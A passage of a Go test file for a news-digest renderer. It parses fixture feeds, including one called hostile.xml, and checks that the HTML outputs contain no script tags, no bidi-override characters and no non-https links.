		{"EmailText", RenderEmailText},
		{"Telegram", func(e Edition, o RenderOptions) (string, error) { _, err := RenderTelegram(e, o); return "", err }},
		{"WebPage", RenderWebPage},
	} {
		b.Run(f.name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				if _, err := f.render(e, o); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}

// TestRenderFeedFixtures renders an edition built from the real fixture
// feeds, hostile.xml included (articles.ParseFeed, then Rank), and checks
// the properties every format must keep. No golden file: cleaning and
// ranking have their own tests and may change the content.
// feedsEdition parses the fixture feeds (files, named by outlet), clusters
// and ranks them as the Builder does, at a fixed time.
func feedsEdition(t *testing.T, feeds map[string]string) Edition {
	t.Helper()
	now := time.Date(2023, 9, 14, 0, 0, 0, 0, time.UTC)
	files := make([]string, 0, len(feeds))
	for f := range feeds {
		files = append(files, f)
	}
	sort.Strings(files)
	var all []articles.Article
	for i, name := range files {
		data, err := os.ReadFile(filepath.Join("..", "testdata", "feeds", name))
		if err != nil {
			t.Fatal(err)
		}
		as, err := articles.ParseFeed(data, articles.Feed{ID: int64(i + 1), Name: feeds[name], URL: "https://feeds.example/" + name, Section: "us", Weight: 1}, now)
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		for k := range as {
			as[k].ID = int64(len(all) + 1)
			as[k].IngestedAt = now
			all = append(all, as[k])
		}
	}
	o := renderTestOptions()
	return Edition{Date: "2023-09-13", Title: o.Title, Items: Rank(all, RankOptions{Sections: o.Sections, Now: now})}
}

// fixtureOutlets are the five outlets of testdata/feeds/README.md.
var fixtureOutlets = map[string]string{
	"pacific-stripes.rss.xml":   "Pacific Stripes Daily",
	"wire-a.rss.xml":            "Wire-A News Service",
	"globe-news.atom.xml":       "The Globe News",
	"meridian.feed.json":        "Meridian Business & Tech",
	"harborview-herald.rss.xml": "Harborview Herald",
}

func TestRenderFeedFixtures(t *testing.T) {
	feeds := map[string]string{"hostile.xml": "Hostile Fixture Outlet"}
	for f, n := range fixtureOutlets {
		feeds[f] = n
	}
	o := renderTestOptions()
	e := feedsEdition(t, feeds)
	if len(e.Items) < 30 {
		t.Fatalf("%d items from the fixtures", len(e.Items))
	}
	checkTelegram(t, e, o)
	out := renderAll(t, e, o)
	// DIGESTBOT_RENDER_DUMP=dir writes the renderings there, for a look.
	if dir := os.Getenv("DIGESTBOT_RENDER_DUMP"); dir != "" {
		for name, s := range out {
			if err := os.WriteFile(filepath.Join(dir, "feeds."+name), []byte(s), 0o644); err != nil {
				t.Fatal(err)
			}
		}
	}
	for name, s := range out {
		if strings.ContainsRune(s, '\u202E') {
			t.Errorf("%s: a bidi override survived", name)
		}
	}
	for _, name := range []string{"email.html", "web.html"} {
		walk(parseHTML(t, out[name]), func(n *html.Node) {
			if n.Type == html.ElementNode && n.Data == "script" {
				t.Errorf("%s: <script> element", name)
			}
			for _, a := range n.Attr {
				if a.Key == "href" && !strings.HasPrefix(a.Val, "https://") {
					t.Errorf("%s: link %q", name, a.Val)
				}
			}
		})
	}
}
